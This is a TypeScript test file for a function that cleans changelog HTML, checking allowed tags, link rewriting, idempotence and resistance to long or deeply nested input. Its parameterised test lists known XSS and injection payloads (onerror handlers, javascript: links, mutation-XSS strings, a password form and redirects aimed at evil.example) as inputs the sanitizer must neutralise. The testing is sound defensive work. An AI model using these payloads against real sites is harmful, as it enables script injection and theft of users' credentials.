import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeChangelog } from "./sanitize-changelog.ts";

describe("sanitizeChangelog", () => {
  it("keeps what a changelog is made of", () => {
    const html =
      "<p>New:</p><ul><li><strong>Faster</strong> checkout</li><li><em>Fixed</em> <code>NEXT-1</code></li></ul>";
    expect(sanitizeChangelog(html)).toBe(html);
  });

  it("brings headings and old emphasis to what our page has", () => {
    expect(sanitizeChangelog("<h1>9.6</h1><b>bold</b> <i>slanted</i>")).toBe(
      "<h4>9.6</h4><strong>bold</strong> <em>slanted</em>",
    );
  });

  it("opens links elsewhere without telling where from", () => {
    expect(sanitizeChangelog('<a href="https://docs.example/a?b=1" onclick="x()" class="y">Docs</a>')).toBe(
      '<a href="https://docs.example/a?b=1" rel="noopener noreferrer nofollow" target="_blank">Docs</a>',
    );
  });

  it.each([
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/api/auth/sign-out'>x</a>",
    "<a href='https://ok.example\" onmouseover=\"alert(1)'>x</a>",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<p id='root' class='fixed'>x</p>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<base href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<object data='x.swf'></object><embed src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import 'https://evil.example'</style>",
  ])("leaves nothing that loads, runs or leads astray of %s", (html) => {
    expect(dangersIn(sanitizeChangelog(`<p>before</p>${html}`))).toEqual([]);
  });

  it("leaves nothing dangerous of whatever strangers put together", () => {
    const piece = fc.constantFrom(
      "<",
      ">",
      "</",
      "script",
      "img src=x onerror=y",
      "svg",
      "style",
      "a href='javascript:x'",
      "<!--",
      "-->",
      '"',
      "'",
      "p",
      "&lt;",
      "title",
      " ",
      "x",
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 30 }),
        (pieces) => dangersIn(sanitizeChangelog(pieces.join(""))).length === 0,
      ),
    );
  });

  it("says the same about what it has already cleaned", () => {
    const once = sanitizeChangelog("<h2>A & B</h2><a href=https://a.example>x</a><ul><li>1<li>2</ul>");
    expect(sanitizeChangelog(once)).toBe(once);
  });

  it("closes what a cut text leaves open, and is not drowned in length or depth", () => {
    const long = sanitizeChangelog(`<ul>${"<li>entry</li>".repeat(100_000)}`);
    expect(long.length).toBeLessThan(30_000);
    expect(long.endsWith("</ul>")).toBe(true);
    expect(sanitizeChangelog("<blockquote>".repeat(5000)).length).toBeLessThan(1000);
  });
});

const ALLOWED_TAG = /^<\/?(p|ul|ol|li|strong|em|u|s|code|pre|blockquote|h4)>$|^<br ?\/?>$|^<\/a>$/u;
const ALLOWED_LINK = /^<a( href="https?:\/\/[^"<>]*")? rel="noopener noreferrer nofollow" target="_blank">$/u;

/** Every tag that is not allowed, and every angle bracket outside a tag. */
function dangersIn(html: string): readonly string[] {
  const tags = html.match(/<[^>]*>?/gu) ?? [];
  return tags.filter((tag) => !ALLOWED_TAG.test(tag) && !ALLOWED_LINK.test(tag));
}
